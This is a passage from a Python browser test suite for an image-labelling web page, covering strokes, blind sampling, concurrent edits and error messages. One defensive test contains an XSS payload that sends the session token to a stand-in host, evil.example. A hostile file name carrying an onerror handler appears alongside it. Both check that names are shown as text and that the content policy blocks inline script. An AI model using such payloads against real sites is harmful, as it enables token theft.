        return [...ctx.getImageData(Math.round(c.x * d), Math.round(c.y * d), 1, 1).data]; }""",
                        [(a[0] + b[0]) / 2, (a[1] + b[1]) / 2])
    return "#%02X%02X%02X" % tuple(rgb[:3])


def test_label_page_in_a_browser_draws_saves_and_removes_strokes(chromium, label_server):
    base, points, server = label_server
    page = open_label_page(chromium, f"{base}/#token={server.token}", image=1)  # sub/wide.png, 90x60
    page.keyboard.press("2")
    name, colour = page.evaluate("[S.classes[1].name, S.classes[1].colour]")
    box = page.locator("canvas").bounding_box()
    scale = box["width"] / 90  # CSS pixels per image pixel
    client = lambda x, y: (box["x"] + x * scale, box["y"] + y * scale)  # noqa: E731
    pixel = lambda cx, cy: (math.floor((cx - box["x"]) / scale), math.floor((cy - box["y"]) / scale))  # noqa
    start, end = client(10.3, 20.6), client(70.8, 41.2)
    page.mouse.move(*start)
    page.mouse.down()
    page.mouse.move(*end, steps=25)
    drawing = page.evaluate("down.path.map(p => [p.x, p.y])")
    assert colour_between(page, *drawing[4:6]) == colour  # drawn as it is drawn
    page.mouse.up()
    page.wait_for_function("S.strokes.length === 1")
    rows = list(csv.DictReader(open(points)))
    assert open(points).readline() == "image,x,y,class,stroke\n" and page.evaluate("S.clicks") == []
    assert {(r["image"], r["class"], r["stroke"]) for r in rows} == {("sub/wide.png", name, "1")}
    xy = [(int(r["x"]), int(r["y"])) for r in rows]
    assert xy[0] == pixel(*start) == (10, 20) and xy[-1] == pixel(*end) == (70, 41)  # where the drag was
    (x0, y0), (x1, y1) = xy[0], xy[-1]
    for x, y in xy:  # each vertex a pixel the straight drag crossed: within a pixel of its line
        assert abs((x1 - x0) * (y - y0) - (y1 - y0) * (x - x0)) / math.hypot(x1 - x0, y1 - y0) < 1.5
    steps = [math.hypot(b[0] - a[0], b[1] - a[1]) for a, b in zip(xy, xy[1:])]
    assert len(xy) >= 10 and min(steps[:-1]) >= 2 and all(b[0] > a[0] for a, b in zip(xy, xy[1:]))
    # a reload shows it, drawn in its class colour
    page.reload()
    page.wait_for_function("S && picture.complete && picture.naturalWidth")
    page.keyboard.press("n")
    page.wait_for_function("cur === 1 && picture.complete && picture.naturalWidth")
    assert page.evaluate("S.strokes") == [{"image": "sub/wide.png", "stroke": 1, "class": name,
                                           "points": [list(p) for p in xy]}]
    assert [list(p) for p in xy[:len(drawing)]] == drawing and len(xy) - len(drawing) <= 1  # + the release's
    assert colour_between(page, *xy[4:6]) == colour
    # a click near the line, between its vertices, removes the whole stroke; a click elsewhere adds a point
    page.mouse.click(*client((xy[4][0] + xy[5][0]) / 2 + 0.5, (xy[4][1] + xy[5][1]) / 2 + 0.5))
    page.wait_for_function("S.strokes.length === 0")
    assert points.read_text() == "image,x,y,class,stroke\n"
    page.keyboard.press("2")  # a reload chose the first class again
    page.mouse.click(*client(30.5, 5.5))
    page.wait_for_function("S.clicks.length === 1")
    assert points.read_text() == f"image,x,y,class,stroke\nsub/wide.png,30,5,{name},\n"
    # a drag out of the image ends its stroke at the edge: no vertex off the image, none along the edge
    page.mouse.move(*client(80.5, 30.5))
    page.mouse.down()
    page.mouse.move(*client(100.5, 30.5), steps=10)
    page.mouse.move(*client(100.5, 10.5), steps=5)
    page.mouse.up()
    page.wait_for_function("S.strokes.length === 1")
    assert page.evaluate("S.strokes[0].points") == [[x, 30] for x in (80, 82, 84, 86, 88)]
    # shift-drag pans: no stroke
    page.keyboard.down("Shift")
    page.mouse.move(*client(50, 50))
    page.mouse.down()
    page.mouse.move(*client(60, 50), steps=3)
    page.mouse.up()
    page.keyboard.up("Shift")
    assert page.evaluate("view.panX") == pytest.approx(10 * scale, abs=1)
    assert page.evaluate("S.strokes.length") == 1
    page.close()


def test_label_page_in_a_browser_blind_mode_labels_point_after_point(chromium, label_server, tmp_path):
    root = label_server[2].labels.root
    sample = tmp_path / "sample.csv"  # the rows out of the sample's order
    sample.write_text("image,x,y,class,sample\nsub/wide.png,80,5,,2\nsquare.jpg,10,20,,1\n"
                      "square.jpg,50,60,,3\n")
    with serving(root, "--points", sample) as (base, server):
        page, asked = chromium.new_page(viewport={"width": 900, "height": 700}), []
        page.on("request", lambda r: asked.append(r.url))
        page.goto(f"{base}/#token={server.token}")
        page.wait_for_function("S && k === 0 && cur === 0 && picture.complete && picture.naturalWidth")
        at, box = page.evaluate("[toCanvas(10, 20), canvas.getBoundingClientRect()]")  # point 1, centred
        assert abs(at["x"] - box["width"] / 2) < 1 and abs(at["y"] - box["height"] / 2) < 1
        page.keyboard.press("3")  # Road
        page.wait_for_function("k === 1 && cur === 1 && picture.complete")  # on to sample point 2
        assert "1 of 3 labelled" in page.text_content("#title")
        page.keyboard.press("m")
        box = page.locator("canvas").bounding_box()
        page.mouse.click(box["x"] + 5, box["y"] + 5)  # elsewhere: adds nothing
        page.keyboard.press("n")
        page.wait_for_function("k === 2")
        assert not page.evaluate("showMap") and page.evaluate("S.clicks.length") == 3
        assert "probability sample" in page.text_content("#help")
        page.close()
    assert [u for u in asked if "/map" in u or "/suggestions" in u or "/change" in u] == [base + "/change"]
    assert sample.read_text() == "image,x,y,class,sample\nsub/wide.png,80,5,,2\nsquare.jpg,10,20,Road,1\n" \
        "square.jpg,50,60,,3\n"


# a name that runs script where a page inserts it as HTML: it sets a flag and sends the token elsewhere
HOSTILE = "<img src=x onerror=\"window.ran = 1; fetch('http://evil.example/' + TOKEN)\">"


def test_label_page_in_a_browser_shows_names_as_text_and_runs_no_other_script(chromium, tmp_path):
    root = tmp_path / "photos"
    root.mkdir()
    image = "<img src=y onerror=window.ran=2>.png"
    Image.new("RGB", (40, 30)).save(root / image)
    classes = [{"title": HOSTILE, "color": "#FF0000"}, {"title": "Road", "color": "#808080"}]
    (root / "classes.json").write_text(json.dumps({"classes": classes}))
    points = tmp_path / "clicks.csv"
    with serving(root, "--labels", points) as (base, server):
        with urllib.request.urlopen(base + "/", timeout=30) as r:
            policy = r.headers["Content-Security-Policy"]
        assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy
        page, asked, said = chromium.browser.new_page(), [], []  # the policy as a person's browser keeps it
        page.on("request", lambda r: asked.append(r.url))
        page.on("console", lambda m: said.append(m.text))
        for _ in range(2):  # as it opens; then with a click of that class in the file, after a reload
            page.goto(f"{base}/#token={server.token}")
            page.wait_for_selector("#classes .class")
            page.wait_for_selector("#title:not(:empty)")
            if not points.exists():
                page.keyboard.press("1")
                box = page.locator("canvas").bounding_box()
                page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
                page.wait_for_selector("#status:not(:empty)")
        assert page.text_content("#classes").startswith(f"1 {HOSTILE} (1 / 1)")  # as text
        assert image in page.text_content("#title") and page.evaluate("document.images.length") == 0
        assert list(csv.reader(open(points)))[1] == [image, "20", "15", HOSTILE]
        # and HTML that would reach the page runs nothing: the policy refuses its inline handler
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=z onerror=\"window.ran=3\">')")
        page.wait_for_timeout(500)
        assert page.evaluate("window.ran") is None
        assert any("Content Security Policy" in line for line in said)
        page.close()
    assert asked and all(url.startswith(base + "/") for url in asked)  # nothing left for another site


def test_label_page_in_a_browser_keeps_what_another_page_or_a_person_wrote(chromium, label_server):
    base, points, server = label_server
    with serving(server.labels.root, "--labels", points) as (other, second):  # a second label.py, same file
        pages = [open_label_page(chromium, f"{address}/#token={s.token}", image=1)
                 for address, s in [(base, server), (other, second)]]
        box = pages[0].locator("canvas").bounding_box()
        scale = box["width"] / 90  # CSS pixels per image pixel of sub/wide.png, 90x60
        for k in range(6):  # one page, the other, in turn: 6 clicks made
            page, x = pages[k % 2], 10 * k + 5
            page.mouse.click(box["x"] + (x + 0.5) * scale, box["y"] + 20.5 * scale)
            page.wait_for_function(f"S.clicks.some(c => c.x === {x})")
        assert len(list(csv.reader(open(points)))) == 1 + 6  # 6 kept
        assert pages[1].evaluate("S.clicks.length") == 6  # and the page shows them: the other's too
        with open(points, "a") as f:  # a person adds a row by hand
            f.write("square.jpg,1,1,Water\n")
        pages[0].mouse.click(box["x"] + 80.5 * scale, box["y"] + 40.5 * scale)
        pages[0].wait_for_function("S.clicks.length === 8")
        rows = list(csv.reader(open(points)))[1:]
        assert rows[6:] == [["square.jpg", "1", "1", "Water"], ["sub/wide.png", "80", "40", "Water"]]
        for page in pages:
            page.close()


def test_label_page_in_a_browser_says_why_an_image_cannot_be_shown(chromium, label_server, monkeypatch):
    base, points, server = label_server

    def too_large(path):  # what a header declaring 30000x30000 pixels ends in, where memory is short
        raise MemoryError()

    monkeypatch.setattr(rasters, "read_scene", too_large)
    page = chromium.new_page()
    page.goto(f"{base}/#token={server.token}")
    page.wait_for_function("document.getElementById('status').textContent.startsWith('image 1: 422 ')")
    assert "96x96 pixels, more than the memory free" in page.text_content("#status")
    page.close()


def test_a_clicks_file_given_as_a_link_is_written_where_it_links(label_server, tmp_path, capsys):
    base, _, _ = label_server
    kept = tmp_path / "elsewhere" / "clicks.csv"
    kept.parent.mkdir()
    kept.write_text("image,x,y,class\nsquare.jpg,1,1,Water\n")
    (tmp_path / "link.csv").symlink_to(kept)
    with serving(tmp_path / "photos", "--labels", tmp_path / "link.csv") as (base, server):
        assert "a link; the clicks are written to the file it links to" in capsys.readouterr().out
        assert change(base, server, {"image": "square.jpg", "x": 2, "y": 3, "class": "Road"}) == 200
    assert (tmp_path / "link.csv").is_symlink()  # still the link, and the file it links to has both clicks
    assert kept.read_text().splitlines()[1:] == ["square.jpg,1,1,Water", "square.jpg,2,3,Road"]
